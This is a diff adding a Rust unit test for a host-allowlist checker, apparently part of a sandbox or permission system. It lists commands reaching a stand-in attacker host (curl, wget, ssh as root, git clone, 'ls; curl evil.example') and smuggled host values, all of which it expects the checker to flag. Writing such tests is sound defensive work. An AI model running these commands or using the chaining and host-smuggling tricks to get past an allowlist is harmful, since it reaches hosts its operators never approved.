@@ -352,6 +352,44 @@ fn keys_that_may_be_places_take_words() {
 }
 
 #[test]
+fn commands_and_lists_of_hosts_are_held_to_the_hosts() {
+    let checks = checks(&[json!({"hosts": ["*.example.com", "example.com"]})]);
+    let commands = [
+        "curl evil.example",
+        "curl evil.example/x",
+        "timeout 5 wget evil.example",
+        "ping -c1 evil.example",
+        "ssh evil.example",
+        "ssh -p 22 root@evil.example",
+        "git clone git@evil.example:x/y",
+        "dig @8.8.8.8 x.example.com",
+        "curl 8.8.8.8/x",
+        "curl https://api.example.com evil.example",
+        "curl --url=evil.example",
+        "ls; curl evil.example",
+    ];
+    let hosts = ["evil.example 80", "api.example.com evil.example", "api.example.com,evil.example"];
+    let mut hostile: Vec<Value> = commands.iter().map(|command| json!({ "command": command })).collect();
+    hostile.extend(hosts.iter().flat_map(|host| [json!({ "host": host }), json!({ "url": host })]));
+    hostile.push(json!({"command": ["ping", "evil.example"]}));
+    assert_hostile(&checks, &hostile);
+    let honest = [
+        "curl -s https://api.example.com/v1",
+        "curl -o page.html https://example.com",
+        "ping -c 1 api.example.com",
+        "git clone https://git.example.com/a/b.git",
+        "git commit -m 'v1.2 of app.js'",
+        "git diff HEAD~1 -- src/main.rs",
+        "ls -l report.txt",
+        "python3 main.py",
+        "cat notes.md",
+    ];
+    let mut honest: Vec<Value> = honest.iter().map(|command| json!({ "command": command })).collect();
+    honest.push(json!({"host": "api.example.com 443"}));
+    assert_honest(&checks, &honest);
+}
+
+#[test]
 fn no_key_and_no_spelling_leads_to_another_host() {
     let checks = checks(&[json!({"hosts": ["*.example.com", "example.com"]})]);
     for key in ["url", "link", "address", "target", "site", "src", "page", "image", "x", "text", "message", "host"] {
